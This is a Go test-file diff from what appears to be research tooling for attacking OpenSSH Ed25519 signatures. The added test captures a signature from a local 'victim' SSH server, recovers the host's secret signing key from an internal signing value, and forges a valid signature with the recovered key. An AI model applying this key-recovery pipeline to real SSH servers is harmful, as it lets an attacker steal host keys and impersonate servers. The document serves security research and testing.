@@ -1,10 +1,18 @@
 package main
 
 import (
+	"bytes"
+	"encoding/gob"
+	"fmt"
 	"log"
+	"pfFingerprint/eddsaSigner"
+	"pfFingerprint/sshVictim"
+	"pfFingerprint/trigger"
 	"reflect"
 	"strings"
 	"testing"
+
+	"golang.org/x/crypto/ed25519"
 )
 
 func TestParseOSSHKey(t *testing.T) {
@@ -89,3 +97,59 @@ func Test_unsignedBToSecret(t *testing.T) {
 		})
 	}
 }
+
+//Test_GroundTruthFromSSHVictim captures a signature from the in-process ssh victim with the ssh trigger and
+//recovers the expanded secret from the signed b reported by the victim
+func Test_GroundTruthFromSSHVictim(t *testing.T) {
+	hostKey, err := sshVictim.LoadHostKey("../../../openssh-target/victim-sshd-config/ssh_host_ed25519_key")
+	if err != nil {
+		t.Fatalf("LoadHostKey() error = %v", err)
+	}
+	groundTruths := make(chan *sshVictim.GroundTruth, 1)
+	server, err := sshVictim.NewServer(hostKey, func(gt *sshVictim.GroundTruth) {
+		groundTruths <- gt
+	})
+	if err != nil {
+		t.Fatalf("NewServer() error = %v", err)
+	}
+	addr, err := server.ListenAndServe("127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("ListenAndServe() error = %v", err)
+	}
+	defer server.Close()
+
+	victimTrigger, err := trigger.NewTriggerFromURI(fmt.Sprintf("ssh://victim@%v", addr))
+	if err != nil {
+		t.Fatalf("NewTriggerFromURI() error = %v", err)
+	}
+	payload, err := victimTrigger.Execute()
+	if err != nil {
+		t.Fatalf("Execute() error = %v", err)
+	}
+	var sigMsg trigger.SSHSignatureMessage
+	if err := gob.NewDecoder(bytes.NewReader(payload)).Decode(&sigMsg); err != nil {
+		t.Fatalf("Failed to decode signature message : %v", err)
+	}
+	gt := <-groundTruths
+
+	_, sigS, err := parseSignature(sigMsg.Signature)
+	if err != nil {
+		t.Fatalf("parseSignature() error = %v", err)
+	}
+	messageDigestReduced := unsignedBToMessageDigestReduced(signedBToUnsigned(gt.B))
+	secret := recoverSecretFromSig(sigMsg.Message, messageDigestReduced[:], sigS, sigMsg.PublicKeySSH)
+
+	//the recovered secret must produce signatures that are valid under the victim's public key
+	signer, err := eddsaSigner.NewExpandedSecretSigner(secret, sigMsg.PublicKeySSH)
+	if err != nil {
+		t.Fatalf("Recovered secret does not match public key : %v", err)
+	}
+	message := []byte("signed with recovered key")
+	sig, err := eddsaSigner.SignWithExpandedSecret(message, secret, sigMsg.PublicKeySSH)
+	if err != nil {
+		t.Fatalf("SignWithExpandedSecret() error = %v", err)
+	}
+	if !ed25519.Verify(signer.Public().(ed25519.PublicKey), message, sig) {
+		t.Errorf("Signature with recovered secret is invalid")
+	}
+}